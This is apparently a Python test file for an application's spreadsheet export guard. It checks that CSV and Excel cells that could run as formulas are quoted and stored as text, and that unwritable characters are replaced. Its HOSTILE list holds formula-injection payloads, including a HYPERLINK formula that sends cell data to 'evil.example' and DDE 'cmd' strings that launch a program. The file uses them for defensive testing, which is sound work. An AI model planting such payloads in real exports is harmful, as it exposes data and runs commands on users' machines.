"""The spreadsheet guard: text that a spreadsheet could run as a formula is written as text, everywhere."""
from __future__ import annotations

import csv
import io
import re

import openpyxl
import pandas as pd
import pytest

from app.config import ROOT
from app.workflow.core import spreadsheets

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1;"Avaa")', "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_could_run_is_guarded(text):
    assert spreadsheets.runs_as_formula(text)
    assert spreadsheets.csv_cell(text) == "'" + text
    assert spreadsheets.from_csv_cell(spreadsheets.csv_cell(text)) == text


@pytest.mark.parametrize("value", ["Kuopio", "297", "-12,5", "+3", "-7", "0,1234", "", " =1+1", "'=1", 12, -3, 0.5, None])
def test_plain_text_and_numbers_are_left_alone(value):
    assert not spreadsheets.runs_as_formula(value)
    assert spreadsheets.csv_cell(value) == value


def test_csv_writer_guards_every_text_cell_and_keeps_numbers():
    buffer = io.StringIO()
    writer = spreadsheets.CsvWriter(buffer, delimiter=";")
    writer.writerow(["=1+1", -3, "-12,5", "Kuopio"])
    writer.writerows([["@SUM(A1)", 4]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";"))
    assert rows == [["'=1+1", "-3", "-12,5", "Kuopio"], ["'@SUM(A1)", "4"]]


def test_excel_keeps_the_text_as_typed_stored_as_text():
    frame = pd.DataFrame({"Ote": HOSTILE, "Raportteja": range(len(HOSTILE))})
    book = openpyxl.load_workbook(io.BytesIO(spreadsheets.frames_to_xlsx({"=Taulu": frame})))
    sheet = book["=Taulu"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == [text.replace("\r", "\n") for text in HOSTILE]  # XML reads CR as LF
    assert {cell.data_type for cell in cells} == {"s"} and all(cell.quotePrefix for cell in cells)
    assert [row[1].value for row in sheet.iter_rows(min_row=2)] == list(range(len(HOSTILE)))
    assert {row[1].data_type for row in sheet.iter_rows(min_row=2)} == {"n"}


WRITERS = re.compile(r"\bcsv\.(writer|DictWriter)\(|\.to_excel\(|\bExcelWriter\b|\bopenpyxl\b|\bxlsxwriter\b")


def test_every_csv_and_excel_file_is_written_through_the_guard():
    """A new export that writes CSV or Excel itself would skip the guard: it must use app/workflow/core/spreadsheets.py."""
    guard = ROOT / "app" / "workflow" / "core" / "spreadsheets.py"
    offenders = [f"{path.relative_to(ROOT)}:{number}" for path in sorted((ROOT / "app").rglob("*.py")) if path != guard
                 for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
                 if WRITERS.search(line)]
    assert offenders == []


UNWRITABLE = "Ote\x00 jossa\x01ohjaus\x0bmerkkejä\x1f ja \ud800 puolisko\ufffe"


def test_characters_a_format_cannot_hold_are_replaced_in_excel():
    frame = pd.DataFrame({"Ote" + "\x07": [UNWRITABLE, "=1+1" + "\x02", 3]})
    data = spreadsheets.frames_to_xlsx({"Taulu\x03": frame})
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet.title == "Taulu\ufffd"
    assert sheet["A1"].value == "Ote\ufffd"
    assert sheet["A2"].value == "Ote\ufffd jossa\ufffdohjaus\ufffdmerkkejä\ufffd ja \ufffd puolisko\ufffd"
    assert sheet["A3"].value == "=1+1\ufffd" and sheet["A3"].data_type == "s"
    assert sheet["A4"].value == 3


def test_a_column_of_text_only_is_cleaned_too():
    """pandas 3 gives a column of strings its own str dtype, not object: it is cleaned all the same."""
    frame = pd.DataFrame({"Ote": ["Ote\x01 jossa\x0b ohjausmerkkejä\x1b[31m", "toinen"]})
    assert frame["Ote"].dtype != object or pd.__version__ < "3"
    sheet = openpyxl.load_workbook(io.BytesIO(spreadsheets.frames_to_xlsx({"Otteet": frame}))).active
    assert sheet["A2"].value == "Ote\ufffd jossa\ufffd ohjausmerkkejä\ufffd[31m"


def test_characters_a_format_cannot_hold_are_replaced_in_csv():
    buffer = io.StringIO()
    spreadsheets.CsvWriter(buffer, delimiter=";").writerow(["a\x00b", "c\ud800", "tab\tja\nrivi"])
    buffer.getvalue().encode("utf-8")  # no lone surrogate left to fail on
    assert list(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";")) == [["a\ufffdb", "c\ufffd", "tab\tja\nrivi"]]
